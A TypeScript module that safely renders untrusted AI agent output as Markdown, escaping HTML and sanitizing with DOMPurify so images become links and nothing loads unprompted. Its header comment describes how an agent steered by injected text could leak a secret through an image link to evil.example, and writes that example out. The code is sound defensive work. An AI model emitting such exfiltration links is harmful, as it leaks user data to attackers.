// Agent output is untrusted. Markdown is rendered with marked, and HTML written
// in a message is part of its text: it is shown as written (escaped), never
// rendered as markup, so that an agent explaining `<b>` or `<script>` outside a
// code span keeps every character of it. What marked makes is then passed
// through DOMPurify, the last line of defence should HTML get through anyway:
// everything not plain HTML is removed (scripts, event handlers, javascript:
// and other unsafe URLs, forms, styles). Links open in a new tab without the
// page's opener or referrer.
//
// Nothing in a message is fetched without a click: an agent steered by text it
// was given could otherwise leak what it knows by writing
// `![x](https://evil.example/?d=<secret>)`, which the browser would load as
// soon as the message is shown. So an image becomes a link to it showing its
// alt text, media elements are removed, and so are the attributes that load a
// URL by themselves (`srcset`, `poster`, `background`). The page's
// Content-Security-Policy (img-src 'self') is the second line.
import DOMPurify from 'dompurify';
import { Marked, type Tokens } from 'marked';

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A' && node.hasAttribute('href')) openInNewTab(node);
  // The image's attributes are sanitized by now: its src is a safe URL, or gone.
  if (node.tagName === 'IMG') node.replaceWith(imageAsLink(node));
});

function openInNewTab(link: Element): void {
  link.setAttribute('target', '_blank');
  link.setAttribute('rel', 'noopener noreferrer nofollow');
}

/**
 * A link to the image labelled with its alt text (or its URL). Inside a link,
 * or when it has no URL worth opening (a data: URL), only the label is left.
 */
function imageAsLink(image: Element): Node {
  const document = image.ownerDocument;
  const src = image.getAttribute('src')?.trim() ?? '';
  const linkable = src !== '' && !/^data:/i.test(src);
  const label = image.getAttribute('alt')?.trim() || (linkable ? src : '') || 'image';
  if (!linkable || image.parentElement?.closest('a')) return document.createTextNode(label);
  const link = document.createElement('a');
  link.setAttribute('href', src);
  const title = image.getAttribute('title');
  if (title) link.setAttribute('title', title);
  link.textContent = label;
  openInNewTab(link);
  return link;
}

const ESCAPES: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#39;',
};

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (character) => ESCAPES[character] ?? character);
}

const markdown = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    // An HTML tag in a line is text of it; an HTML block is a paragraph of text, lines kept.
    html({ text, block }: Tokens.HTML | Tokens.Tag): string {
      const escaped = escapeHtml(text);
      return block ? `<p>${escaped.trimEnd().replace(/\n/g, '<br>')}</p>\n` : escaped;
    },
  },
});

export function renderMarkdown(text: string): string {
  return sanitizeHtml(markdown.parse(text, { async: false }));
}

/** DOMPurify on rendered Markdown: plain HTML only, images as links, nothing that fetches. */
export function sanitizeHtml(html: string): string {
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: [
      'style',
      'form',
      'input',
      'button',
      'textarea',
      'select',
      'iframe',
      'audio',
      'video',
      'source',
      'track',
    ],
    FORBID_ATTR: ['style', 'srcset', 'poster', 'background'],
  });
}

const rendered = new WeakMap<object, string>();

/** Rendered once per event object: a stored message never changes. */
export function renderMarkdownOnce(key: object, text: string): string {
  let html = rendered.get(key);
  if (html === undefined) {
    html = renderMarkdown(text);
    rendered.set(key, html);
  }
  return html;
}
